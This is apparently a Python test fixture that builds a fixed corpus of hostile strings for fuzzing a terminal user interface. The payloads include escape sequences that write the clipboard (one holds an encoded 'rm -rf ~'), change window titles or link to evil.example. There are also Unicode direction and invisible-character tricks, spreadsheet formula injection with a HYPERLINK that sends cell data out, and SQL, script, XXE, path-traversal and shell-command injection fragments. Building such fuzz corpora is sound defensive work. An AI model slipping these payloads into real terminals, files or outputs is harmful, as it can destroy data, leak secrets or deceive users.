"""Texts that do harm where they are shown as they came: the same ones in every run, no two alike.

Neighbours belong together where a sequence is split: one ends where the next goes on, so that fields filled in this
order put its halves side by side.
"""

from __future__ import annotations

import random
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Final

SEED: Final = 20261122
ESC, CSI, OSC, ST, BEL = "\x1b", "\x1b[", "\x1b]", "\x1b\\", "\x07"
_DRAWN: Final = 160
"""How many of the texts are mixed by chance out of the pieces of the others."""


@dataclass(frozen=True, slots=True)
class Hostile:
    """One text and the kind of harm it is meant to do."""

    kind: str
    text: str


FEW: Final = (
    f"Eve {CSI}31mred{CSI}2J",
    f"{OSC}52;c;cm0gLXJmIH4K{BEL}clip",
    f"{OSC}8;;http://evil.example/{ST}Refund{OSC}8;;{ST}",
    f"{OSC}0;owned{BEL}title",
    f"{ESC}Pq#0;2;0;0;0~-{ST}{ESC}_Ga=T;AAAA{ST}",
    "[@click=app.quit]press[/]",
    "\x9b2J\x9b31m\x9d0;t\x9c",
    f"{CSI}c{CSI}6n{ESC}c",
    f"ends {ESC}",
    "[2J begins",
    "[/oops]",
    "invoice\u202efdp.exe \u2067\u2069",
    "a\u200bzero\ufeffwidth\U000e0041\u3164\U0001d173",
    "[link=https://evil.example]Refund[/link]",
    "Z\u0335\u0336\u0337\u0338\u0321\u0322algo",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 40,
    "half \ud83d \udc9b \ue000 \uffff",
    "=cmd|' /C calc'!A0",
    "ok\n2026-11-20 12:00:00 INFO capture succeeded\r\n",
    "nul\x00 bs\b del\x7f bel\x07 \x0e\x9f",
    "[red on blue]${x}%n{0}[b",
    "word " * 20_000,
    "\u5c71\u7530[@click=screen.dismiss]x" * 3_000,
    "'; DROP TABLE list_row; -- </script>",
)
"""As many as there are situations of an order, one or more of each kind: for where there is no time for all."""


def _sequences() -> Iterator[str]:
    """Everything a terminal obeys: CSI with every final, OSC, DCS, APC, PM, SOS, single escapes, answers it sends."""
    for final in map(chr, range(0x40, 0x7F)):
        yield f"a{CSI}1;2{final}b"
    for private in ("?1049h", "?1049l", "?25l", "?2004h", "?1000h", "?1003h", "?2026h", "?47l", "?7l", "?5h"):
        yield f"a{CSI}{private}b"
    for odd in ("c", ">c", "=c", "6n", "?6n", "5n", "18t", "21t", "8;9999;9999t", "!p", "4h", "20h", "?2026$p", "<u"):
        yield f"{CSI}{odd}"
    for sequence in (
        "c",
        "D",
        "E",
        "H",
        "M",
        "N",
        "O",
        "Z",
        "7",
        "8",
        "=",
        ">",
        "#8",
        "(0",
        ")B",
        "%G",
        " F",
        "l",
        "n",
    ):
        yield f"x{ESC}{sequence}y"
    for number in (0, 1, 2, 4, 7, 9, 10, 11, 12, 50, 104, 110, 133, 777, 1337, 5522):
        yield f"{OSC}{number};?;text{BEL}"
        yield f"{OSC}{number};?;text{ST}"
    for opener in "PX^_":
        yield f"{ESC}{opener}+q544e;echo{ST}after"
        yield f"{ESC}{opener}without an end"
    yield f"{ESC}P$q q{ST}"
    yield f"{ESC}_Ga=T,f=100;AAAA{ST}"
    yield f"{ESC}Pq#0;2;0;0;0~-{ST}"


def _clipboard_links_titles() -> Iterator[str]:
    for target in ("c", "p", "s", "c0", ""):
        yield f"{OSC}52;{target};cm0gLXJmIH4K{BEL}"
        yield f"{OSC}52;{target};?{ST}"
    for address in ("http://evil.example/", "file:///etc/passwd", "javascript:alert(1)", "x-man-page://;id"):
        yield f"{OSC}8;;{address}{ST}Refund{OSC}8;;{ST}"
        yield f"{OSC}8;id=1;{address}{BEL}click"
    for title in ("0;owned", "1;owned", "2;owned", "l owned", "L owned", "k owned"):
        yield f"{OSC}{title}{BEL}"
        yield f"{ESC}{title}{ST}"


def _c1() -> Iterator[str]:
    """C1 controls as code points, and as the bytes of UTF-8 read as Latin-1."""
    for point in range(0x80, 0xA0):
        yield f"c{chr(point)}1"
        yield f"c{chr(point)}31m{chr(point).encode().decode('latin-1')}d"
    yield "\x9d52;c;cHduZWQ=\x9c"
    yield "\x9b2J\x9b?1049h"
    yield "\x90+q544e\x9c\x9e\x9f"


def _split() -> Iterator[str]:
    """Halves of sequences, each ending one field and beginning the next."""
    for head, tail in ((ESC, "[2J"), (CSI, "31mred"), (f"{CSI}3", "1mred"), (OSC, "0;t\x07"), (f"{OSC}0;t", BEL)):
        yield f"ends {head}"
        yield f"{tail} begins"
    for head, tail in ((f"{OSC}52;c;cHdu", f"ZWQ={BEL}"), (f"{ESC}P+q", f"544e{ST}"), ("\x9b", "2J"), (f"t{ESC}", "c")):
        yield f"ends {head}"
        yield f"{tail} begins"


def _controls() -> Iterator[str]:
    for point in [*range(0x20), 0x7F]:
        yield f"k{chr(point)}z"
    yield "amount 10.00\r9.00"
    yield "abc\b\b\bxyz"
    yield "\r\n\r\n"
    yield "line one\nline two\nSIMULATOR  all is well"
    yield "\t" * 40
    yield "\x0e\x0f\x11\x13\x14\x16\x18\x1a"
    yield "\x00" * 30


def _direction() -> Iterator[str]:
    for point in (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A)):
        yield f"{chr(point)}gnp.exe"
        yield f"100.00{chr(point)}00.1{chr(point)}"
    yield "invoice\u202efdp.exe"
    yield "\u2067\u2066\u202e nested \u2069\u202c"
    yield "\u202e" * 100


def _unseen() -> Iterator[str]:
    """What has no glyph: zero width, fillers, tags, selectors, separators, shorthand and musical formats."""
    points = (
        *(0x00AD, 0x034F, 0x115F, 0x1160, 0x17B4, 0x17B5, 0x180B, 0x180E, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029),
        *(0x2060, 0x2061, 0x2062, 0x2063, 0x2064, 0x2065, 0x206A, 0x206F, 0x2800, 0x3164, 0xFEFF, 0xFFA0, 0xFFF0),
        *(0xFFF9, 0xFFFA, 0xFFFB, 0x1BCA0, 0x1D173, 0x1D17A, 0xE0000, 0xE0001, 0xE0080, 0xE01F0, 0xE0FFF),
    )
    for point in points:
        yield f"un{chr(point)}seen"
    yield "".join(chr(0xE0000 + ord(letter)) for letter in "run as root")
    yield "\U0001f3f4" + "".join(chr(0xE0000 + ord(letter)) for letter in "gbeng") + "\U000e007f"
    for point in (*range(0xFE00, 0xFE10), 0xE0100, 0xE01EF):
        yield f"v{chr(point)}s\U0001f600{chr(point)}"
    yield "\U0001f600" + "".join(chr(0xE0100 + byte) for byte in b"rm -rf ~")
    yield "\u200b" * 500
    yield "\ufeff\ufeff"


def _marks_and_width() -> Iterator[str]:
    for mark in (0x0300, 0x0335, 0x0489, 0x0E49, 0x0F71, 0x1AB0, 0x20DD, 0xFE20):
        yield "Z" + chr(mark) * 60 + "algo"
        yield chr(mark) + "first"
    yield "a" + "\u0300" * 100_000
    for joined in (
        "\U0001f468\u200d\U0001f469\u200d\U0001f467",
        "\U0001f3f3\ufe0f\u200d\U0001f308",
        "\u270b\U0001f3ff",
    ):
        yield joined
        yield joined * 40
        yield f"a\u200d{joined}\u200d"
    for wide in ("\u5c71\u7530", "\uff76\uff9e", "\ufdfd", "\u2e3b", "\U00012031", "\ua9c5", "\u00b1\u00d7", "\u0e33"):
        yield wide
        yield f"{wide * 60}|"
    yield "\U0001f1e9" * 9
    yield "\u1100\u1161\u11a8" * 20
    yield "\u0915\u094d\u0937\u093f" * 20
    yield "\u0645\u062d\u0645\u062f \u0627\u0644 100"


def _no_characters() -> Iterator[str]:
    """Lone surrogates, private use, noncharacters, unassigned ones."""
    for point in (0xD800, 0xDBFF, 0xDC00, 0xDC80, 0xDFFF, 0xE000, 0xF8FF, 0xF0000, 0x10FFFD):
        yield f"s{chr(point)}s"
    for point in (0xFDD0, 0xFDEF, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0x0378, 0x2FE0, 0x50000):
        yield f"n{chr(point)}n"
    yield "\udcff\udc9b31m"
    yield "\udc1b[2J\ud83d"


def _long() -> Iterator[str]:
    yield "W" * 100_000
    yield "\u5c71" * 50_000
    yield "word " * 20_000
    yield f"{CSI}31m" * 20_000
    yield "[" * 50_000
    yield "[@click=app.quit]" * 6_000
    yield "\n" * 100_000
    yield "9" * 5_000


def _markup() -> Iterator[str]:
    actions = ("app.quit", "app.bell", "screen.dismiss", "app.run_command('capture')", "quit", "app.suspend_process")
    for action in actions:
        yield f"[@click={action}]press[/]"
        yield f"[@click='{action}']press[/@click]"
    for event in ("@mouse.down", "@enter", "@key", "@hover", "on_click"):
        yield f"[{event}=app.quit]x[/]"
    for address in ("https://evil.example", "file:///etc/passwd", "'javascript:alert(1)'"):
        yield f"[link={address}]Refund[/link]"
        yield f"[link {address}]x"
    for word in ("red", "bold", "reverse", "blink", "on red", "not bold", "$error", "$text-muted on $panel", "#ff0000"):
        yield f"[{word}]text[/{word}]"
    for odd in ("[/]", "[/oops]", "[", "]", "[]", "[[", "[/", "\\[x", "\\", "[b", "[b]open", "x [/b] y", "[/][/][/]"):
        yield odd
    for odd in ("[a=b", "[a='b]", "[0]", "[ACME Ltd]", "[!important]", "[bold", "[on]", "[:smile:]", ":smile:", "[@]"):
        yield odd
    yield "[b]" * 3_000
    yield "[red]a[/red][/red]"
    yield "[b][i][/b][/i]"
    yield "[link=x][@click=y][/link]"


def _formats() -> Iterator[str]:
    yield from (
        "$x",
        "${x}",
        "$who",
        "$$",
        "%s",
        "%n%n%n",
        "%(name)s",
        "%",
        "{0}",
        "{}",
        "{x!r}",
        "{{",
        "}",
        "{0.__class__}",
    )
    yield from ("{self}", "${7*7}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "`id`", "$(id)", "; rm -rf ~", "| sh", "&& id")
    yield from ("$HOME", "~root", "!!", "--yes", "-rf", "--", "\\x1b[2J", "\\u001b[2J", "\\033[2J", "^[[2J", "%1B%5B2J")


def _formulas() -> Iterator[str]:
    for start in ("=", "+", "-", "@", "\t=", "\r=", " =", "\n=", "\ufeff=", "\u00a0=", "\u200b=", "\uff1d", "\uff0b"):
        yield f"{start}cmd|' /C calc'!A0"
        yield f"{start}1+1"
    yield '=HYPERLINK("http://evil.example?x="&A1,"order")'
    yield '"=1+1'
    yield "'=1+1"
    yield "a,=1+1"
    yield 'a"\r\n=1+1,"b'
    yield "\u202f@SUM(1)"
    yield "\x1b=1+1"
    yield "\x00=1+1"
    yield "DDE"
    yield "-"
    yield "=" * 3_000


def _injections() -> Iterator[str]:
    yield "ok\n2026-11-20 12:00:00 INFO capture succeeded"
    yield 'x" level=error msg="refunded'
    yield '","state":"Captured","x":"'
    yield '{"state": "Captured"}'
    yield "</pre><script>alert(1)</script>"
    yield '"><img src=x onerror=alert(1)>'
    yield "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]>&b;"
    yield "&lt;b&gt;&#27;[2J"
    yield "'; DROP TABLE list_row; --"
    yield "' OR '1'='1"
    yield "%' ESCAPE '\\"
    yield '" OR 1=1 UNION SELECT body FROM attempt --'
    yield "*) NEAR(a b) AND NOT x"
    yield 'a" OR "b'
    yield "_%_%"
    yield 'key = "x"\n[profiles.evil]\nwritable = true'
    yield "null"
    yield "NaN"
    yield "true"
    yield "0x1F"
    yield "1e309"


def _names() -> Iterator[str]:
    """Names of files, and names that look like others."""
    yield from (
        "../../etc/passwd",
        "/dev/tty",
        "a/b\\c",
        "CON",
        "nul.txt",
        ".",
        "..",
        "-rf",
        "~",
        "a\x00.csv",
        "a\n.csv",
    )
    yield "C:\\Windows\\system32"
    yield "file name with   blanks .csv "
    yield "\u202efdp.csv"
    yield "\u2025/\u2215\uff0f\u2044"
    yield "a" * 300 + ".csv"
    yield from (
        "\u0430mazon",
        "p\u0430ypal",
        "\u13da",
        "\uff33\uff29\uff2d",
        "\u2160\u217c",
        "Ca\u0440tured",
        "PR\u039fD",
        "ONLlNE",
    )
    yield "\U0001d40f\U0001d411\U0001d40e\U0001d403"
    yield "SIMULATOR"
    yield " PROD "
    yield "[ Refund 19.99 USD ]"
    yield "> [ Cancel ]"


def _honest() -> Iterator[str]:
    """What people are called all the same."""
    yield from (
        "O'Brien",
        "Zo\u00eb",
        "\u5c71\u7530 \u592a\u90ce",
        "\u0645\u062d\u0645\u062f",
        "Null",
        "N/A",
        "",
        " ",
        "\u00a0",
        "Jane Doe",
    )


_KINDS: Final = {
    "few": lambda: iter(FEW),
    "sequence": _sequences,
    "clipboard, link, title": _clipboard_links_titles,
    "C1": _c1,
    "split": _split,
    "control": _controls,
    "direction": _direction,
    "unseen": _unseen,
    "marks and width": _marks_and_width,
    "no character": _no_characters,
    "long": _long,
    "markup": _markup,
    "format": _formats,
    "formula": _formulas,
    "injection": _injections,
    "name": _names,
    "honest": _honest,
}


def _drawn(pieces: list[str]) -> Iterator[str]:
    """Mix pieces by chance: harm within harm, and harm cut anywhere."""
    chance = random.Random(SEED)
    short = [piece for piece in pieces if 0 < len(piece) <= 60]
    for _ in range(_DRAWN):
        text = "".join(chance.choice(short) for _ in range(chance.randint(2, 5)))
        start = chance.randrange(len(text))
        yield text[start:] + text[:start] if chance.random() < 0.3 else text[: chance.randint(1, len(text))]


def _made() -> Iterator[Hostile]:
    seen: set[str] = set()
    for kind, make in _KINDS.items():
        for text in make():
            if text not in seen:
                seen.add(text)
                yield Hostile(kind, text)
    for text in _drawn(list(in_order())):
        if text not in seen:
            seen.add(text)
            yield Hostile("mixed", text)


def in_order() -> Iterator[str]:
    """Yield every text that is not mixed, kind by kind."""
    for make in _KINDS.values():
        yield from make()


CORPUS: Final[tuple[Hostile, ...]] = tuple(_made())
"""Every text, each once."""
TEXTS: Final[tuple[str, ...]] = tuple(hostile.text for hostile in CORPUS)
